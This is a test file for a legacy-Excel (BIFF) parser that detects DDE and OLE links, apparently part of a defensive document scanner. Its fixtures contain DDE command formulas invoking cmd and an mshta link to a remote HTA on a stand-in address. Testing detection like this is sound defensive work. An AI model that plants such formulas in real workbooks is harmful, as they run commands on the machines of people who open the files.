import assert from 'node:assert/strict';
import { test } from 'node:test';
import {
  buildWorkbookStream,
  ptgNameX,
  record,
  type BiffWorkbookSpec,
} from '../../../test/builders/biff.js';
import { parseWorkbook } from './index.js';

const ddeBook = (extra: Partial<BiffWorkbookSpec> = {}): BiffWorkbookSpec => ({
  sheets: [{ name: 'Sheet1', cells: [{ ref: 'A1', rgce: ptgNameX(1) }] }],
  ddeLinks: [{ application: 'cmd', topic: "/c echo emoguard-test's", item: 'A0' }],
  ...extra,
});

test('biff dde: SUPBOOK cmd + EXTERNNAME A0 is a DDE link, and the PtgNameX cell shows and cites it', () => {
  const book = parseWorkbook(buildWorkbookStream(ddeBook()));
  assert.equal(book.ddeLinks.length, 1, 'one link');
  const [link] = book.ddeLinks;
  assert.deepEqual(
    { ...link, offset: undefined },
    {
      application: 'cmd',
      topic: "/c echo emoguard-test's",
      item: 'A0',
      isOle: false,
      formula: "cmd|'/c echo emoguard-test''s'!A0",
      offset: undefined,
      cells: ['Sheet1!A1'],
    },
  );
  assert.equal(book.sheets[0]?.cells[0]?.formula, "cmd|'/c echo emoguard-test''s'!A0");
  assert.ok((link?.offset ?? 0) > 0, 'the EXTERNNAME record offset is kept');
});

test('biff dde: fOleLink marks an OLE link; a SUPBOOK without EXTERNNAME is still listed', () => {
  const book = parseWorkbook(
    buildWorkbookStream(
      ddeBook({
        sheets: [{ name: 'Sheet1', cells: [] }],
        ddeLinks: [
          { application: 'Excel.Sheet', topic: 'C:\\x.xls', item: 'R1C1', isOle: true },
          { application: 'mshta', topic: 'http://192.0.2.7/x.hta' },
        ],
      }),
    ),
  );
  assert.deepEqual(
    book.ddeLinks.map((l) => [l.application, l.item, l.isOle, l.cells.length]),
    [
      ['Excel.Sheet', 'R1C1', true, 0],
      ['mshta', '', false, 0],
    ],
  );
});

test('biff dde: an external workbook SUPBOOK (sheets listed, U+0001 volume, U+0003 directories) is not DDE', () => {
  assert.deepEqual(
    parseWorkbook(buildWorkbookStream({ sheets: [{ name: 'S', cells: [] }] })).ddeLinks,
    [],
  );
  const path = '\u0001C\u0003data\u0003book.xls';
  const chars = (s: string) => [0, ...[...s].map((c) => c.charCodeAt(0))];
  const supbook = (ctab: number) =>
    record(0x01ae, [
      ctab,
      0,
      path.length,
      0,
      ...chars(path),
      ...(ctab ? [5, 0, ...chars('Data1')] : []),
    ]);
  const name = record(0x0023, [0, 0, 0, 0, 0, 0, 2, ...chars('A0')]);
  for (const ctab of [1, 0]) {
    const stream = buildWorkbookStream({
      sheets: [{ name: 'S', cells: [] }],
      extraGlobals: [supbook(ctab), name],
    });
    assert.deepEqual(parseWorkbook(stream).ddeLinks, [], `ctab ${ctab}`);
  }
});

test('biff dde: maxNames caps the links kept on both sides of the limit', () => {
  const links = [1, 2, 3].map((i) => ({ application: 'cmd', topic: `/c echo ${i}`, item: 'A0' }));
  const spec = ddeBook({ sheets: [{ name: 'Sheet1', cells: [] }], ddeLinks: links });
  const atLimit = parseWorkbook(buildWorkbookStream(spec), { maxNames: 3 });
  assert.equal(atLimit.ddeLinks.length, 3, 'exactly maxNames links are kept');
  assert.ok(!atLimit.anomalies.some((a) => a.code === 'E_BIFF_NAME_LIMIT'), 'no limit at 3');
  const over = parseWorkbook(buildWorkbookStream(spec), { maxNames: 2 });
  assert.equal(over.ddeLinks.length, 2, 'the third link is dropped');
  assert.ok(
    over.anomalies.some((a) => a.code === 'E_BIFF_NAME_LIMIT'),
    'the limit is reported',
  );
});
